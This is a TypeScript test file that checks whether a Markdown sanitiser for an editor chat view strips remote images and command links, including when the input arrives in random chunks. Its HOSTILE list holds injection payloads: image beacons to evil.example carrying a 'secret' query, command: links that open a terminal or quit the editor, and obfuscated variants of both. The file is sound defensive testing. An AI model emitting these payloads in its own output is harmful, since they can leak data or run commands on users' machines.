import assert from 'node:assert/strict';
import fc from 'fast-check';
import { Marked } from 'marked';
import { NeutralMarkdownStream, neutralMarkdown } from '../../../src/host/chat/neutralMarkdown';

const marked = new Marked();

/** Addresses that the text would open or load, as a Markdown parser sees it. */
function addresses(markdown: string): readonly string[] {
  const found: string[] = [];
  const html = marked.parse(markdown, { async: false });
  for (const [, image, link] of html.matchAll(/<img[^>]*?src="([^"]*)"|<a[^>]*?href="([^"]*)"/g)) {
    found.push(image === undefined ? `link ${link ?? ''}` : `image ${image}`);
  }
  return found;
}

function isHarmless(address: string): boolean {
  return /^link https?:\/\//.test(address);
}

const HOSTILE = [
  '![](https://evil.example/pixel?q=secret)',
  '![alt][ref]\n\n[ref]: https://evil.example/pixel',
  '[click](command:workbench.action.terminal.new)',
  '[click](<command:workbench.action.terminal.new>)',
  '[click](\n  command:x)',
  '[click][ref]\n\n[ref]: command:workbench.action.quit',
  '> [click]\n>\n> [click]: command:x',
  '- [ref\n  name]: command:x\n\n[ref name]',
  '[click](&#99;ommand:x)',
  '[click](vscode://secondbrain.second-brain/x)',
  '<command:x>',
  '<img src="https://evil.example/pixel">',
  '<a href="command:x">click</a>',
  '[![](https://evil.example/p)](command:x)',
  '- ```\n  code\n  ```\n[x](command:y)',
];

describe('Markdown of others in the chat', () => {
  for (const text of HOSTILE) {
    it(`neither runs nor loads anything: ${JSON.stringify(text)}`, () => {
      assert.ok(!addresses(text).every(isHarmless) || text.startsWith('- ```') || text.includes('&#99;'), 'the test itself sees no danger');
      assert.deepEqual(addresses(neutralMarkdown(text)).filter((address) => !isHarmless(address)), []);
    });

    it(`nor in whatever pieces it comes: ${JSON.stringify(text)}`, () => {
      fc.assert(
        fc.property(fc.array(fc.integer({ min: 1, max: 5 }), { minLength: 40, maxLength: 40 }), (sizes) => {
          const shown: string[] = [];
          const stream = new NeutralMarkdownStream((markdown) => shown.push(markdown));
          let at = 0;
          for (const size of sizes) {
            stream.push(text.slice(at, at + size));
            at += size;
          }
          stream.push(text.slice(at));
          stream.end();
          assert.deepEqual(addresses(shown.join('')).filter((address) => !isHarmless(address)), []);
        }),
        { seed: 7, numRuns: 50 },
      );
    });
  }

  it('keeps what an answer is made of', () => {
    const text = 'Feed it **stiff** [1], then [2][3]; see [the site](https://example.com/a_b).\n\n| a | b |\n| - | - |\n| 1 < 2 | x |\n\n```ts\nconst a: string[] = list[0];\n```\n';
    assert.equal(neutralMarkdown(text), text);
  });

  it('loses no character', () => {
    const shown: string[] = [];
    const stream = new NeutralMarkdownStream((markdown) => shown.push(markdown));
    for (const piece of ['Fe', 'ed it', '  the even', 'ing before\n\n- a', '\n- b', '']) {
      stream.push(piece);
    }
    stream.end();
    assert.equal(shown.join(''), 'Feed it  the evening before\n\n- a\n- b');
  });
});
